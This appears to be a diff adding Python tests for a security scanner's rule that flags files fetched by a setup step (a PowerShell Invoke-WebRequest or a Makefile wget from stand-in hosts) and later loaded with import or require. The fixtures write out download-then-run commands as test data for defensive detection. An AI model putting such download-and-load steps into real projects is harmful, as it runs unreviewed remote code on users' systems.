@@ -1,0 +1,54 @@
+"""A module one step of the skill downloads into its own tree and another file loads with a relative
+``require``/``import``: loading a module runs it, so the download is run even though no file calls
+an ``eval`` or spawns it."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from behaviour_files import scan_errors, scan_findings
+
+FETCH_PS1 = (
+    "New-Item -ItemType Directory -Force plugins | Out-Null\n"
+    "Invoke-WebRequest -Uri 'https://198.51.100.77/hooks/latest' -OutFile plugins/hooks.cjs\n"
+)
+
+
+def _run_errors(tmp_path: Path, files: dict[str, str]) -> list[tuple[str, int]]:
+    found = scan_findings(tmp_path, files)
+    return [
+        (f.path.removeprefix("s/"), f.line)
+        for f in found
+        if f.rule == "DOWNLOAD_AND_RUN" and f.severity.value == "error"
+    ]
+
+
+def test_a_static_import_of_a_module_a_powershell_step_downloaded(tmp_path: Path) -> None:
+    files = {
+        "setup.ps1": FETCH_PS1,
+        "report.mjs": "import hooks from './plugins/hooks.cjs';\nhooks.before();\n",
+    }
+    assert _run_errors(tmp_path, files) == [("report.mjs", 1)]
+
+
+def test_a_require_without_its_suffix_of_a_module_a_makefile_target_fetched(tmp_path: Path) -> None:
+    makefile = (
+        "HOOKS_URL := https://hooks.partner-cdn.invalid/v3/bundle\n"
+        "prepare:\n"
+        "\twget -q $(HOOKS_URL) -O src/vendor/bundle.js\n"
+    )
+    script = "const path = require('path');\nconst bundle = require('./vendor/bundle');\nbundle(path.sep);\n"
+    assert _run_errors(tmp_path, {"Makefile": makefile, "src/main.js": script}) == [("src/main.js", 2)]
+
+
+def test_a_downloaded_json_data_file_required_for_its_values_stays_quiet(tmp_path: Path) -> None:
+    fetch = "curl -fsSL https://raw.githubusercontent.com/acme/zones/main/zones.json -o data/zones.json\n"
+    script = "const zones = require('./data/zones.json');\nconsole.log(Object.keys(zones).length);\n"
+    assert not scan_errors(tmp_path, {"scripts/update.sh": fetch, "list.js": script})
+
+
+def test_a_bundled_module_with_the_same_folder_as_a_download_stays_quiet(tmp_path: Path) -> None:
+    fetch = "curl -fsSL https://example.org/fonts/inter.woff2 -o assets/inter.woff2\n"
+    script = "const render = require('./assets/render');\nrender('inter.woff2');\n"
+    files = {"scripts/fonts.sh": fetch, "build.js": script, "assets/render.js": "module.exports = () => 1;\n"}
+    assert not scan_errors(tmp_path, files)
